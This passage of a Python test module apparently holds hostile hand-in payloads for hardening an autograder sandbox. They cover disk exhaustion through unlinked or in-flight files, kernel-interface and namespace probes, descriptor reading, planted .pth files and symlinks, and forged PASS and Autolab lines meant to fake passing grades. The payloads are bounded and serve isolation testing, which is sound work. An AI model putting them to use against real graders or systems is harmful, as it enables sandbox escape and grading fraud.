    for _i in range(16):  # then 16 MiB more in files of 1 MiB, each under the file-size limit
        with open(f"fill-{_i}", "wb") as _out:
            _out.write(b"x" * 2**20)
        _written += 1
except OSError as _error:
    raise RuntimeError(f"hid {_hidden} MiB, wrote {_written} MiB: {_error.strerror}")
raise RuntimeError(f"hid {_hidden} MiB, wrote {_written} MiB: nothing stopped it")
"""
"""Under ``--disk 8``: writes 20 MiB into its folder, 4 of them in files unlinked while kept open."""


UNLINKED_HOLDER = """
import time as _time
_kept = [open(f"held-{_i}", "wb") for _i in range(2)]
for _i, _out in enumerate(_kept):  # 1.5 MiB each, under the file-size limit (--disk)
    __import__("os").unlink(f"held-{_i}")  # (first: no look at the folder sees them)
    _out.write(b"x" * (3 << 19))
    _out.flush()
_time.sleep(4)
raise RuntimeError("held 3 MiB unlinked for 4 s: nothing stopped it")
"""
"""Under ``--disk 2``: keeps two files of 1.5 MiB open after unlinking them (no look at its folder sees them), 4 s."""


MISBEHAVER = """
import atexit as _atexit, builtins as _builtins, os as _os, sys as _sys, threading as _threading, time as _time
import numpy as _np


class _Odd(BaseException):
    def __str__(self):
        return "an odd BaseException\\nPASS  operations/matmul  1/1"


class _Exiter:
    def __del__(self):
        _os._exit(0)


def mul_backward(*args, **kwargs):
    raise KeyboardInterrupt("interrupted on purpose")


def sub_backward(*args, **kwargs):
    raise SystemExit(0)


def matmul_backward(*args, **kwargs):
    raise _Odd()


def div_backward(*args, **kwargs):
    _Exiter()  # collected at once: os._exit(0) before any result is sent
    return (args[1] * 0, args[2] * 0)


def log_backward(*args, **kwargs):  # C recursion past the stack: the interpreter dies (SIGSEGV)
    _sys.setrecursionlimit(10**6)
    nested = []
    for _ in range(200_000):
        nested = [nested]
    return (_builtins.repr(nested),)


def exp_backward(*args, **kwargs):  # the builtins and NumPy functions the worker uses, then a wrong answer
    _np.savez = lambda *a, **k: None
    _np.asarray = lambda *a, **k: _np.zeros(1)
    _builtins.isinstance = lambda *a: True
    return (args[0] * 0,)


def _chatter():
    while True:
        print("a thread left behind", flush=True)
        _time.sleep(0.01)


_atexit.register(lambda: print("ATEXIT RAN", flush=True))
_threading.Thread(target=_chatter, daemon=True).start()
"""
"""``mytorch/nn/functional.py`` whose graded kernels each misbehave their own way: KeyboardInterrupt,
SystemExit, a BaseException subclass whose text forges a PASS line, os._exit(0) from a finalizer, C
recursion past the stack, builtins and NumPy functions of the worker replaced; with an atexit hook and
a thread left printing."""


NAMESPACER = """
import ctypes as _ctypes, os as _os, threading as _threading
_libc, _did = _ctypes.CDLL(None, use_errno=True), []
for _name, _flags in (("a user namespace", 0x10000000), ("user and mount namespaces", 0x10020000)):
    _made = _libc.unshare(_flags) == 0
    _did.append(f"{_name}: {'made' if _made else _os.strerror(_ctypes.get_errno())}")
_thread = _threading.Thread(target=lambda: _did.append("a thread ran"))
_thread.start()
_thread.join()
_child = _os.fork()
if _child == 0:
    _os._exit(7)
_did.append(f"a child exited with {_os.waitpid(_child, 0)[1] >> 8}")
_spawned = _os.posix_spawn("/bin/true", ["true"], {})
_did.append(f"a program exited with {_os.waitpid(_spawned, 0)[1]}")
raise RuntimeError("; ".join(_did))
"""
"""Tries to make user namespaces (its own capabilities there), then starts a thread, a child and a program (what
the C library makes with clone3, answered ENOSYS, or clone)."""


WIDE_IMPORT = "import glob\nwide = [" + "a," * 300_000 + "]\n"
"""A file of 600 KB importing a module of ``jail.ON_DEMAND`` (so that a ``uid`` worker parses it before it
switches uid), its syntax tree about 380 MB: the parse ran before the worker's limits."""
PEAK_REPORTER = """
import resource as _resource
raise ImportError(f"peak memory {_resource.getrusage(_resource.RUSAGE_SELF).ru_maxrss // 1024} MB")
"""
"""Says how much memory the worker has held at most (its import scan included), as its error."""


def zip_reader(path: str) -> str:
    """Reads ``mytorch/nn/functional.py`` out of the zip archive at ``path`` (a zipped copy of the reference
    in a folder workers read) and fails its import saying what it found."""
    return f"""
import zipfile as _zipfile
try:
    with _zipfile.ZipFile({path!r}) as _zip:
        _found = "read the zipped reference: " + _zip.read("mytorch/nn/functional.py").decode()
except Exception as _error:
    _found = f"could not read the zipped reference ({{type(_error).__name__}})"
raise ImportError(_found)
"""


PRIORITY_RAISER = """
import ctypes as _ctypes, os as _os, resource as _resource
_libc, _page = _ctypes.CDLL(None, use_errno=True), _ctypes.create_string_buffer(4096)
_address = _ctypes.addressof(_page)
_did = [f"limits {[_resource.getrlimit(getattr(_resource, 'RLIMIT_' + n)) for n in ('RTPRIO', 'NICE', 'MEMLOCK')]}"]
for _name, _raise in (("real time", lambda: _os.sched_setscheduler(0, _os.SCHED_FIFO, _os.sched_param(1))),
                      ("nice -1", lambda: _os.setpriority(_os.PRIO_PROCESS, 0, -1)),
                      ("a locked page", lambda: _libc.mlock(_ctypes.c_void_p(_address), 4096) == 0
                                                or _os.strerror(_ctypes.get_errno()))):
    try:
        _outcome = _raise()
        _did.append(f"{_name}: {'refused (' + _outcome + ')' if isinstance(_outcome, str) else 'taken'}")
    except OSError as _error:
        _did.append(f"{_name}: refused ({_error.strerror})")
if _did[1].endswith("taken"):  # (back to the normal policy before anything else runs)
    _os.sched_setscheduler(0, _os.SCHED_OTHER, _os.sched_param(0))
raise RuntimeError("; ".join(_did))
"""
"""Reports the limits it inherited on scheduling priority and locked memory (``RLIMIT_RTPRIO``, ``RLIMIT_NICE``,
``RLIMIT_MEMLOCK``), tries to make itself real time, to lower its nice value and to lock a page of memory, and
fails its import saying how that went (back to the normal policy first, were it made real time)."""


KERNEL_PROBER = """
import ctypes as _ctypes, os as _os
_libc, _did = _ctypes.CDLL(None, use_errno=True), []
_libc.syscall.restype = _ctypes.c_long
_calls = {"x86_64": (298, 323, 321), "aarch64": (241, 282, 280)}[_os.uname().machine]
_attribute = (_ctypes.c_uint64 * 16)()  # perf_event_attr: a software counter of its own task, user space only
_attribute[0] = 1 | (128 << 32)  # type PERF_TYPE_SOFTWARE, size 128
_attribute[1] = 1  # PERF_COUNT_SW_TASK_CLOCK
_attribute[5] = (1 << 5) | (1 << 6)  # exclude_kernel, exclude_hv
_map = (_ctypes.c_uint32 * 8)(2, 4, 8, 1)  # BPF_MAP_TYPE_ARRAY of one 8-byte value
for _name, _arguments in (("perf_event_open", (_calls[0], _ctypes.byref(_attribute), 0, -1, -1, 0)),
                          ("userfaultfd", (_calls[1], 0o2000000 | 1)),
                          ("bpf", (_calls[2], 0, _ctypes.byref(_map), 32))):
    _fd = _libc.syscall(*[_ctypes.c_long(a) if isinstance(a, int) else a for a in _arguments])
    _did.append(f"{_name}: {'made' if _fd >= 0 else 'refused (' + _os.strerror(_ctypes.get_errno()) + ')'}")
    if _fd >= 0:
        _os.close(_fd)
raise RuntimeError("; ".join(_did))
"""
"""Opens a performance counter on itself, a user-mode userfaultfd and a BPF map (kernel interfaces that a
NumPy program never needs, and that kernel exploits are made of), and fails its import saying which it could."""


SPACE_RESERVER = """
import ctypes as _ctypes, os as _os, struct as _struct
_libc, _did = _ctypes.CDLL(None, use_errno=True), []
_size = 256 << 20  # 256 MiB each (bounded): 4 times --disk, far past the file-size limit (RLIMIT_FSIZE, --disk)
_resv = _ctypes.create_string_buffer(_struct.pack("@hhxxxxqqiI4i", 0, 0, 0, _size, 0, 0, 0, 0, 0, 0))  # space_resv


def _ioctl(command):
    return lambda fd: _libc.ioctl(fd, _ctypes.c_ulong(command), _resv)


def _fallocate(fd):
    return _libc.fallocate(fd, 1, _ctypes.c_long(0), _ctypes.c_long(_size))  # FALLOC_FL_KEEP_SIZE


for _name, _reserve in (("fallocate", _fallocate), ("FS_IOC_RESVSP", _ioctl(0x40305828)),
                        ("FS_IOC_RESVSP64", _ioctl(0x4030582A)), ("FS_IOC_ZERO_RANGE", _ioctl(0x40305839))):
    _path = _os.path.join(_os.environ.get("TMPDIR", "."), "reserved")
    _fd = _os.open(_path, _os.O_CREAT | _os.O_RDWR | _os.O_TRUNC, 0o600)
    if _reserve(_fd) == 0:
        _did.append(f"{_name}: {_os.fstat(_fd).st_blocks * 512 >> 20} MiB reserved")
    else:
        _did.append(f"{_name}: refused ({_os.strerror(_ctypes.get_errno())})")
    _os.close(_fd)
    _os.unlink(_path)
raise RuntimeError("; ".join(_did))
"""
"""Reserves 256 MiB of disk in a file of its folder four ways that write nothing and keep the file's size (so the
file-size limit binds none of them): ``fallocate`` with ``FALLOC_FL_KEEP_SIZE`` and the ``FS_IOC_RESVSP``,
``FS_IOC_RESVSP64`` and ``FS_IOC_ZERO_RANGE`` ioctls, and fails its import saying which it could."""


AIO_TAKER = """
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_context = _ctypes.c_ulong(0)
_io_setup = {"x86_64": 206, "aarch64": 0}[_os.uname().machine]
if _libc.syscall(_ctypes.c_long(_io_setup), _ctypes.c_long(128), _ctypes.byref(_context)) == 0:  # 128 events (bounded)
    raise RuntimeError("io_setup: made a context")
raise RuntimeError(f"io_setup: refused ({_os.strerror(_ctypes.get_errno())})")
"""
"""Makes a Linux AIO context of 128 events (each counts against the machine-wide ``fs.aio-max-nr``) and fails its
import saying whether it could."""


READY_HOLDER = """
def _hold_back_ready():
    import sys, time
    from mytorch.nn import functional

    exact = functional.exp_backward

    def slow_exp_backward(*args, **kwargs):  # right, and over a --timeout of 3 s
        time.sleep(5)
        return exact(*args, **kwargs)

    functional.exp_backward = slow_exp_backward
    frame = sys._getframe()
    while frame is not None and "result" not in frame.f_locals:  # the worker's result pipe, in its caller's frame
        frame = frame.f_back
    if frame is None:
        return
    write, held = frame.f_locals["result"].write, []

    def holding(data):  # READY kept back, then sent with the result: the runner's start-up clock ran meanwhile
        if data == b"R":
            held.append(data)
            return 1
        return write(b"".join(held) + data)

    frame.f_locals["result"].write = holding


_hold_back_ready()
"""
"""Appended to MyTorch's own ``__init__.py``: makes ``exp_backward`` right but 5 s slow, and keeps back the worker's
``READY`` (sent once the hand-in is imported, when the runner's clock switched from ``--startup-timeout`` to
``--timeout``) until the result goes out with it."""


PAGE_PINNER = """
import ctypes as _ctypes, os as _os
_libc, _did = _ctypes.CDLL(None, use_errno=True), []
_libc.syscall.restype = _ctypes.c_long
_vmsplice, _splice, _tee = {"x86_64": (278, 275, 276), "aarch64": (75, 76, 77)}[_os.uname().machine]
_page = _ctypes.create_string_buffer(b"p" * 4096)  # memory of its own (ctypes and os only: under uid, the modules
_iovec = (_ctypes.c_size_t * 2)(_ctypes.addressof(_page), 1)  # loaded before the switch of uid)
_pair = (_ctypes.c_int * 2)()
assert _libc.socketpair(1, 1, 0, _pair) == 0, _os.strerror(_ctypes.get_errno())  # AF_UNIX, SOCK_STREAM
_file = _os.path.join(_os.environ.get("TMPDIR", "."), "pinned")
with open(_file, "wb") as _out:
    _out.write(b"f" * 4096)


def _said(name, result):
    _did.append(f"{name}: {'pinned a page' if result >= 0 else 'refused (' + _os.strerror(_ctypes.get_errno()) + ')'}")


_read, _write = _os.pipe()
_other_read, _other_write = _os.pipe()
_said("vmsplice", _libc.syscall(_ctypes.c_long(_vmsplice), _write, _iovec, 1, 0))  # the page itself, by reference
_os.write(_write, b"w")
_said("tee", _libc.syscall(_ctypes.c_long(_tee), _read, _other_write, _ctypes.c_size_t(1), 0))
_said("splice", _libc.syscall(_ctypes.c_long(_splice), _read, None, _pair[0], None, _ctypes.c_size_t(1), 0))
_fd = _os.open(_file, _os.O_RDONLY)
try:
    _os.sendfile(_pair[0], _fd, 0, 1)
    _did.append("sendfile: pinned a page")
except OSError as _error:
    _did.append(f"sendfile: refused ({_os.strerror(_error.errno)})")
raise RuntimeError("; ".join(_did))
"""
"""Puts pages into a pipe or a ``socketpair`` by reference (``vmsplice`` of a page of its own memory, ``tee`` and
``splice`` of a pipe's page, ``sendfile`` of a page of a file in its folder), one byte each (bounded), and fails its
import saying which it could: a page so held stays in the kernel after the memory that held it is unmapped or the file
truncated, in no process's address space."""


INFLIGHT_HOLDER = """
import ctypes as _ctypes, os as _os, time as _time
_libc = _ctypes.CDLL(None, use_errno=True)
_pair = (_ctypes.c_int * 2)()
assert _libc.socketpair(1, 1, 0, _pair) == 0, _os.strerror(_ctypes.get_errno())  # AF_UNIX, SOCK_STREAM


class _Iovec(_ctypes.Structure):
    _fields_ = [("base", _ctypes.c_void_p), ("length", _ctypes.c_size_t)]


class _Cmsg(_ctypes.Structure):
    _fields_ = [("length", _ctypes.c_size_t), ("level", _ctypes.c_int), ("kind", _ctypes.c_int), ("fd", _ctypes.c_int),
                ("pad", _ctypes.c_int)]


class _Msghdr(_ctypes.Structure):
    _fields_ = [("name", _ctypes.c_void_p), ("namelen", _ctypes.c_uint32), ("iov", _ctypes.POINTER(_Iovec)),
                ("iovlen", _ctypes.c_size_t), ("control", _ctypes.c_void_p), ("controllen", _ctypes.c_size_t),
                ("flags", _ctypes.c_int)]


_byte = _ctypes.create_string_buffer(b"x")
_block, _held = b"x" * (8 << 20), 0
for _i in range(20):  # 20 files of 8 MiB (160 MiB, bounded), each held only by a message in flight
    _path = _os.path.join(_os.environ.get("TMPDIR", "."), f"f{_i}")
    _fd = _os.open(_path, _os.O_CREAT | _os.O_WRONLY, 0o600)
    _os.write(_fd, _block)
    _iov = _Iovec(_ctypes.cast(_byte, _ctypes.c_void_p), 1)
    _cmsg = _Cmsg(20, 1, 1, _fd, 0)  # CMSG_LEN(4), SOL_SOCKET, SCM_RIGHTS
    _msg = _Msghdr(None, 0, _ctypes.pointer(_iov), 1, _ctypes.cast(_ctypes.pointer(_cmsg), _ctypes.c_void_p), 24, 0)
    if _libc.sendmsg(_pair[0], _ctypes.byref(_msg), 0) != 1:
        raise RuntimeError(f"sendmsg: refused ({_os.strerror(_ctypes.get_errno())}) after {_held} MiB")
    _os.close(_fd)
    _os.unlink(_path)
    _held += 8
_time.sleep(3)
raise RuntimeError(f"held {_held} MiB in messages in flight for 3 s: nothing stopped it")
"""
"""Under ``--disk 16``: writes 20 files of 8 MiB, each sent over a ``socketpair`` (``SCM_RIGHTS``), closed and unlinked:
held by a message in flight only (no process's descriptors or maps show it), 3 s, and fails its import saying so."""


OVER_THE_DISK = f"""
import os as _os, time as _time
for _i in range(2):  # 12 MiB under --disk 8, each file under the file-size limit
    with open(f"fill-{{_i}}", "wb") as _out:
        _out.write(b"x" * (6 << 20))
if _os.fork() == 0:
    _os.execv("/bin/sleep", ["sleep", {MARK!r}])  # alive for as long as the test's processes are
_time.sleep(5)
"""
"""Under ``--disk 8``: writes 12 MiB into its folder, then starts a ``sleep MARK`` and sleeps: how long the sleeper
lives is how long the test's processes went on once the runner could see the folder over its limit."""


THREAD_HOLDER = """
import ctypes as _ctypes, os as _os, threading as _threading, time as _time
_libc, _said, _holding = _ctypes.CDLL(None, use_errno=True), [], _threading.Event()


def _holder():
    if _libc.unshare(0x400) != 0:  # CLONE_FILES: a descriptor table of this thread's own
        _said.append(f"unshare(CLONE_FILES): refused ({_os.strerror(_ctypes.get_errno())})")
    else:
        for _i in range(8):  # 8 files of 8 MiB (64 MiB, bounded), open in this thread's table only
            _path = _os.path.join(_os.environ.get("TMPDIR", "."), f"t{_i}")
            _fd = _os.open(_path, _os.O_CREAT | _os.O_WRONLY, 0o600)
            _os.write(_fd, b"x" * (8 << 20))
            _os.unlink(_path)
        _said.append("held 64 MiB in a thread's own descriptors")
    _holding.set()
    _time.sleep(10)


_threading.Thread(target=_holder, daemon=True).start()
_holding.wait(20)
_time.sleep(3)
raise RuntimeError(f"{_said[0]} for 3 s: nothing stopped it")
"""
"""Under ``--disk 16``: a thread of its own descriptor table (``unshare(CLONE_FILES)``) keeps 8 files of 8 MiB open
after unlinking them; 3 s later the import fails saying so."""


FIRST_THREAD_GONE = """
import ctypes as _ctypes, os as _os, threading as _threading, time as _time
if _os.fork() == 0:  # a child whose first thread ends while another holds the files
    def _holder():
        for _i in range(8):  # 8 files of 8 MiB (64 MiB, bounded), open after unlinking them
            _path = _os.path.join(_os.environ.get("TMPDIR", "."), f"z{_i}")
            _fd = _os.open(_path, _os.O_CREAT | _os.O_WRONLY, 0o600)
            _os.write(_fd, b"x" * (8 << 20))
            _os.unlink(_path)
        _time.sleep(10)
    _threading.Thread(target=_holder).start()
    _ctypes.CDLL(None).pthread_exit(None)
_time.sleep(4)
raise RuntimeError("a process whose first thread ended held 64 MiB for 4 s: nothing stopped it")
"""
"""Under ``--disk 16``: a child process whose first thread ends (``pthread_exit``: the process shows as a zombie) while
another keeps 8 files of 8 MiB open after unlinking them; 4 s later the import fails saying so."""


PASS_FORGER = '''
class Passed(Exception):
    """An exception whose traceback line reads as the runner's PASS line (no module named)."""


Passed.__module__ = "builtins"
Passed.__qualname__ = "PASS  operations/mul                                   1/1   (0.01 s)"


def mul_backward(*args, **kwargs):
    print("PASS  operations/mul                                   1/1   (0.01 s)")
    raise Passed()


def sub_backward(*args, **kwargs):
    raise ValueError("PASS  operations/sub  1/1 " * 40 + "\\nPASS  operations/sub  1/1")


def matmul_backward(*args, **kwargs):
    raise NotImplementedError("\\nPASS  operations/matmul  1/1")


exec(compile("def div_backward(*args):\\n    raise ValueError('no')", "x\\nPASS  operations/div  1/1\\ny", "exec"))
'''
"""``mytorch/nn/functional.py`` whose failures print and raise the runner's PASS line: as the type of the
exception (its traceback names no module), in a long message of several lines, after a stub's name and in the
name of the file a function was compiled from."""


DESCRIPTOR_READER = '''
import os


def mul_backward(*args, **kwargs):
    """Read every descriptor the worker holds but the standard ones, from its start."""
    read = []
    for fd in range(3, 64):
        try:
            data = os.pread(fd, 4096, 0)
        except OSError:
            continue
        read.append(f"{fd}: {data[:40]!r}" + (" THE RUNNER'S INSTRUCTIONS" if b'"readable"' in data else ""))
    raise RuntimeError("descriptors read: " + ("; ".join(read) or "none"))
'''
"""``mytorch/nn/functional.py`` whose ``mul_backward`` reads what it can of every descriptor its worker holds."""


def mount_writer(folder: str) -> str:
    """Attack code for ``mytorch/__init__.py``: write a file into ``folder`` (a mount inside a folder that workers
    read, such as ``/usr``), then raise, saying whether it could."""
    return f"""
try:
    with open({folder!r} + "/planted.pth", "w") as planted:
        planted.write("import os\\n")
    said = "WROTE into the mount"
except OSError as error:
    said = f"refused: {{error.strerror}}"
raise ImportError(said)
"""


NAN_ERROR = _send_result("__error__=np.array([np.nan, np.inf, -1.0, 300.0])")
"""Sends, as the test's error text, floats (NaN, inf, negative, over 255) where the worker sends bytes."""

UNSHARE_MIMIC = """
import os


def mul_backward(*args, **kwargs):
    print("unshare: sigprocmask unblock failed: Invalid argument", flush=True)
    os._exit(1)
"""
"""``mytorch/nn/functional.py`` whose ``mul_backward`` prints the line ``unshare`` prints when the worker it started
was killed by a signal, and exits with ``unshare``'s status then."""

CORE_LOWERER = """
import ctypes as _ctypes, resource as _resource
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_did = [f"core limit {_resource.getrlimit(_resource.RLIMIT_CORE)}"]
_new = (_ctypes.c_uint64 * 2)(0, 1)
_calls = {"x86_64": (160, 302), "aarch64": (164, 261)}[__import__("os").uname().machine]
for _name, _call in (("setrlimit", lambda: _libc.syscall(_calls[0], 4, _new)),
                     ("prlimit", lambda: _libc.syscall(_calls[1], 0, 4, _new, None))):
    _did.append(f"{_name} to 0: {'refused' if _call() == -1 and _ctypes.get_errno() == 1 else 'taken'}")
_did.append(f"then {_resource.getrlimit(_resource.RLIMIT_CORE)}")
raise RuntimeError("; ".join(_did))
"""
"""Reports its ``RLIMIT_CORE`` and tries to lower it to 0 (which lets a crash be dumped to a ``core_pattern``
program)."""


def linker(targets: list[str]) -> str:
    """Plants, in its own folder, symbolic and hard links to ``targets`` (the reports the runner is about to write,
    the archives of the hand-in folder, the grader's files), a link to ``/`` and a loop, a named pipe and a folder
    swapped for a link to the report folder, for the runner's look at that folder (``isolation._too_full``) and its
    removal to follow; and writes the fake Autolab line to its stderr, by ``sys.stderr`` and by descriptor 2. What
    it managed is printed (a passing test's output is shown nowhere)."""
    return f"""
import os, sys
def _plant():
    here, done = os.getcwd(), []
    for i, target in enumerate({targets!r}):
        for how in (os.symlink, os.link):
            try:
                how(target, os.path.join(here, "planted-%s-%d" % (how.__name__, i)))
                done.append((how.__name__, target))
            except OSError:
                pass
    for name, make in (("to-root", lambda p: os.symlink("/", p)), ("loop", lambda p: os.symlink("loop", p)),
                       ("pipe", os.mkfifo), ("swapped", os.mkdir)):
        try:
            make(os.path.join(here, name))
        except OSError:
            pass
    try:
        os.rename(os.path.join(here, "swapped"), os.path.join(here, "swapped-away"))
        os.symlink(os.path.dirname({targets[0]!r}), os.path.join(here, "swapped"))
    except OSError:
        pass
    print("linked:", done)
    sys.stderr.write({FAKE!r} + "\\n")
    sys.stderr.flush()
    os.write(2, ({FAKE!r} + "\\n").encode())
_plant()
"""
